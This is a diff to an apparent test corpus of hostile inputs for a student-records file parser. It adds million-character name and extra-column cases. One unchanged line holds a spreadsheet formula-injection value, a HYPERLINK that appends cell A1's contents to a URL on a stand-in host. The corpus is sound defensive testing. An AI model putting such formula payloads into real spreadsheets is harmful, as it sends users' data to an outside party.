@@ -15,6 +15,7 @@ for name, text, what in (
     ("zero_width_name", "Zo\u200be\ufeff", "Characters of no width."),
     ("a_name_of_nan", "NaN", "A name that is a number elsewhere."),
     ("a_name_of_null", "Null", "A name that is none elsewhere."),
+    ("a_name_of_a_million_characters", CANARY * (10**6 // 9), "A name of a million characters."),
     ("quotes_in_a_name", 'Zoe "Zo" O\'Neill', "Quotes within quotes."),
     ("a_long_name", CANARY * 20, "A name of a hundred and eighty characters."),
     ("a_formula_name", f"=HYPERLINK(\"http://example.org/?\"&A1,\"{CANARY}\")", "A spreadsheet formula for a name."),
@@ -50,3 +51,10 @@ def a_million_characters(good: Good) -> Content:
 def a_million_characters_in_the_header(good: Good) -> Content:
     """A column's name of a million characters."""
     return good.content.replace(b"Gender", b"Gender" * (10**6 // 6), 1)
+
+
+@CORPUS.equal("sis.students")
+def a_million_characters_in_a_new_column(good: Good) -> Content:
+    """A field of a million characters in a column that no contract names."""
+    rows = good.rows
+    return good.write([[*rows[0], CANARY * (10**6 // 9)], *([*row, ""] for row in rows[1:])], [*good.header, "Notes"])
